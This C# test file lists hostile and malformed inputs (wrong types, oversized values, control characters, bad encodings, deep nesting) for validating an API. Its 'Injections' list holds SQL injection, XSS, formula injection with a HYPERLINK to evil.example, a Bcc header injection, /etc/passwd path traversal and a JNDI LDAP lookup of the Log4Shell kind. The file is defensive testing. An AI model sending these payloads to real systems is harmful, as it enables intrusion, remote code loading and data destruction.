using System.Text;

namespace Leads.Functions.Tests.Hostile;

/// <summary>The classes of hostile input; each has a table of what it was tried on.</summary>
internal enum Class
{
    Missing,
    WrongType,
    TooLong,
    TooMany,
    Negative,
    Huge,
    NotANumber,
    DeepNesting,
    WrongEncoding,
    ControlCharacters,
    DirectionMarks,
    UnknownName,
    GivenTwice,
    PathTraversal,
    WrongId,
    WrongBody,
    WrongMethod,
    StaleVersion,
    ReusedKey,
    BadKey,
    NoCredentials,

    /// <summary>A text that means something elsewhere, taken as the text it is.</summary>
    Injection,
}

/// <summary>A value that is wrong, as the bytes that stand in the JSON or, percent-encoded, in the address.</summary>
internal sealed record WrongValue(Class Class, byte[] Bytes)
{
    public static WrongValue Of(Class type, string json) => new(type, Encoding.UTF8.GetBytes(json));
}

/// <summary>What is wrong for a kind of value, whoever asks for it.</summary>
internal static class WrongValues
{
    private const string Long = "\"长\\u0041";

    /// <summary>Texts that a database, a page, a sheet, a mail or a folder could trip over.</summary>
    public static IReadOnlyList<string> Injections { get; } =
    [
        "x'; DROP TABLE rows; --", "1' OR '1'='1", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "@SUM(1)", "-2+3", "x\r\nBcc: victim@evil.example",
        "../../../../etc/passwd", "..\\..\\windows", "{{7*7}}", "${jndi:ldap://evil.example}", "%00%0d%0a", "NULL",
        "NaN",
        "𠮷野家👩‍👩‍👧", "z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    ];

    public static IEnumerable<WrongValue> Of(Shape shape) =>
        [.. Table(shape.Kind).Select(row => WrongValue.Of(row.Class, row.Json)), .. Bytes(shape.Kind), .. Deep];

    /// <summary>The same for what stands in an address, as it is percent-encoded there.</summary>
    public static IEnumerable<(Class Class, string Encoded)> InAddress(Kind kind) => kind switch
    {
        Kind.Text => [],
        Kind.Word => [(Class.WrongType, "nonsense"), (Class.WrongType, "1"), (Class.NotANumber, "NaN")],
        Kind.Day =>
        [
            (Class.WrongType, "yesterday"), (Class.WrongType, "20261121"), (Class.WrongType, "2026-02-30"),
            (Class.WrongType, "21.11.2026"), (Class.Negative, "-2026-01-01"), (Class.Huge, "99999-01-01"),
        ],
        Kind.Id => [(Class.WrongId, "x"), (Class.WrongId, "7"), (Class.WrongId, "0191-zz")],
        Kind.Flag => [(Class.WrongType, "yes"), (Class.WrongType, "1"), (Class.WrongType, "TRUE")],
        Kind.Whole =>
        [
            (Class.WrongType, "x"), (Class.WrongType, "1.5"), (Class.Negative, "-1"), (Class.Huge, "2147483648"),
            (Class.Huge, "1e9"), (Class.NotANumber, "NaN"), (Class.NotANumber, "%EF%BC%91"),
        ],
        Kind.Number =>
        [
            (Class.WrongType, "x"), (Class.WrongType, "1,5"), (Class.Negative, "-1"), (Class.Huge, "1" + Zeros(40)),
            (Class.Huge, "1e30"), (Class.NotANumber, "NaN"), (Class.NotANumber, "Infinity"),
        ],
        Kind.Time or Kind.Moment or Kind.List or Kind.Object =>
            throw new InvalidDataException($"The contract has a parameter of a kind not known here: {kind}"),
    };

    /// <summary>Wrong in any text of an address.</summary>
    public static IReadOnlyList<(Class Class, string Encoded)> InAnyAddress { get; } =
    [
        (Class.TooLong, new('a', 4500)), (Class.TooLong, new string('a', 4500) + "%E9%95%BF"),
        (Class.ControlCharacters, "a%07b"), (Class.ControlCharacters, "a%1B%5B2Jb"), (Class.ControlCharacters, "a%7Fb"),
        (Class.ControlCharacters, "a%C2%85b"), (Class.ControlCharacters, "a%0D%0ABcc%3A%20x"),
        (Class.DirectionMarks, "a%E2%80%AEb"), (Class.DirectionMarks, "a%E2%81%A6b"),
        (Class.DirectionMarks, "a%E2%80%8Fb"),
        (Class.WrongEncoding, "a%FFb"), (Class.WrongEncoding, "%D5%C5%C8%FD"), (Class.WrongEncoding, "%C0%AF"),
    ];

    private static IEnumerable<(Class Class, string Json)> Table(Kind kind) => kind switch
    {
        Kind.Text =>
        [
            (Class.WrongType, "7"), (Class.WrongType, "true"), (Class.WrongType, "{}"), (Class.WrongType, "[\"a\"]"),
            (Class.TooLong, Long + new string('长', 5000) + "\""),
            (Class.TooLong, "\"" + new string('a', 100_000) + "\""),
            .. Unprintable,
        ],
        Kind.Word =>
        [
            (Class.WrongType, "\"nonsense\""), (Class.WrongType, "\"\""), (Class.WrongType, "1"),
            (Class.WrongType, "{}"),
            (Class.WrongType, "[]"), (Class.Negative, "-1"), (Class.TooLong, "\"" + new string('a', 100_000) + "\""),
            .. Unprintable,
        ],
        Kind.Day =>
        [
            (Class.WrongType, "20261121"), (Class.WrongType, "\"\""), (Class.WrongType, "\"yesterday\""),
            (Class.WrongType, "\"2026-02-30\""), (Class.WrongType, "\"21.11.2026\""),
            (Class.WrongType, "\"２０２６-11-21\""),
            (Class.WrongType, "[]"), (Class.Negative, "\"-2026-01-01\""), (Class.Huge, "\"99999-01-01\""),
            (Class.Huge, "\"9999-12-31\""), (Class.Huge, "\"0001-01-01\""), .. Unprintable,
        ],
        Kind.Time =>
        [
            (Class.WrongType, "8"), (Class.WrongType, "\"\""), (Class.WrongType, "\"8:00\""),
            (Class.WrongType, "\"25:00\""),
            (Class.WrongType, "\"08:00:00\""), (Class.Negative, "\"-08:00\""),
            (Class.Huge, "\"99:99\""), .. Unprintable,
        ],
        Kind.Moment =>
        [
            (Class.WrongType, "5"), (Class.WrongType, "\"\""), (Class.WrongType, "\"2026-11-21\""),
            (Class.WrongType, "\"2026-11-21T10:00:00\""), (Class.Huge, "\"9999-12-31T23:59:59+00:00\""),
            (Class.Negative, "\"-2026-11-21T10:00:00Z\""), .. Unprintable,
        ],
        Kind.Id =>
        [
            (Class.WrongId, "7"), (Class.WrongId, "\"\""), (Class.WrongId, "\"x\""), (Class.WrongId, "{}"),
            (Class.WrongId, "\"00000000-0000-0000-0000-000000000000\""),
            (Class.WrongId, "\"0193ffff-ffff-7fff-bfff-ffffffffffff\""), .. Unprintable,
        ],
        Kind.Flag =>
        [
            (Class.WrongType, "\"true\""), (Class.WrongType, "1"), (Class.WrongType, "\"yes\""),
            (Class.WrongType, "{}"),
            (Class.WrongType, "[]"), (Class.NotANumber, "\"NaN\""),
        ],
        Kind.Whole =>
        [
            (Class.WrongType, "\"5\""), (Class.WrongType, "1.5"), (Class.WrongType, "true"), (Class.WrongType, "[]"),
            (Class.Negative, "-1"), (Class.Negative, "-2147483648"), (Class.Huge, "2147483648"),
            (Class.Huge, "2147483647"), (Class.Huge, "1" + Zeros(40)), (Class.Huge, "1e400"),
            (Class.NotANumber, "\"NaN\""),
        ],
        Kind.Number =>
        [
            (Class.WrongType, "\"1\""), (Class.WrongType, "true"), (Class.WrongType, "{}"), (Class.WrongType, "[]"),
            (Class.Negative, "-1"), (Class.Negative, "-0.00000001"), (Class.Huge, "1" + Zeros(20)),
            (Class.Huge, "1" + Zeros(40)), (Class.Huge, "1e400"), (Class.NotANumber, "\"NaN\""),
            (Class.NotANumber, "\"Infinity\""),
        ],
        Kind.List =>
        [
            (Class.WrongType, "\"text\""), (Class.WrongType, "{}"), (Class.WrongType, "7"), (Class.WrongType, "[[]]"),
            (Class.WrongType, "[null]"),
            (Class.TooMany, "[" + string.Join(',', Enumerable.Repeat("null", 10_001)) + "]"),
        ],
        Kind.Object => [(Class.WrongType, "\"text\""), (Class.WrongType, "[]"), (Class.WrongType, "7")],
    };

    private static IReadOnlyList<(Class Class, string Json)> Unprintable { get; } =
    [
        (Class.ControlCharacters, "\"a\\u0000b\""), (Class.ControlCharacters, "\"a\\u0007b\""),
        (Class.ControlCharacters, "\"\\u001b[2J\\u001b]0;x\""), (Class.ControlCharacters, "\"a\\u007fb\""),
        (Class.ControlCharacters, "\"a\\u0085b\""), (Class.ControlCharacters, "\"a\\u2028b\""),
        (Class.DirectionMarks, "\"a\\u202eb\""), (Class.DirectionMarks, "\"a\\u2066b\""),
        (Class.DirectionMarks, "\"a\\u200fb\""),
        (Class.WrongEncoding, "\"a\\ud800b\""), (Class.WrongEncoding, "\"a\ufffdb\""),
    ];

    // Bytes that are no UTF-8: a broken sequence, GB18030, and an overlong slash.
    private static WrongValue[] Bytes(Kind kind) => kind switch
    {
        Kind.Flag or Kind.Whole or Kind.Number or Kind.List or Kind.Object => [],
        Kind.Text or Kind.Word or Kind.Day or Kind.Time or Kind.Moment or Kind.Id =>
        [
            new(Class.WrongEncoding, [(byte)'"', 0xC3, 0x28, (byte)'"']),
            new(Class.WrongEncoding, [(byte)'"', 0xD5, 0xC5, 0xC8, 0xFD, (byte)'"']),
            new(Class.WrongEncoding, [(byte)'"', 0xC0, 0xAF, (byte)'"']),
        ],
    };

    private static WrongValue[] Deep { get; } =
    [
        WrongValue.Of(Class.DeepNesting, new string('[', 40) + new string(']', 40)),
        WrongValue.Of(
            Class.DeepNesting, string.Concat(Enumerable.Repeat("{\"a\":", 5000)) + "1" + new string('}', 5000)),
        WrongValue.Of(Class.DeepNesting, new string('[', 100_000) + new string(']', 100_000)),
    ];

    private static string Zeros(int count) => new('0', count);
}
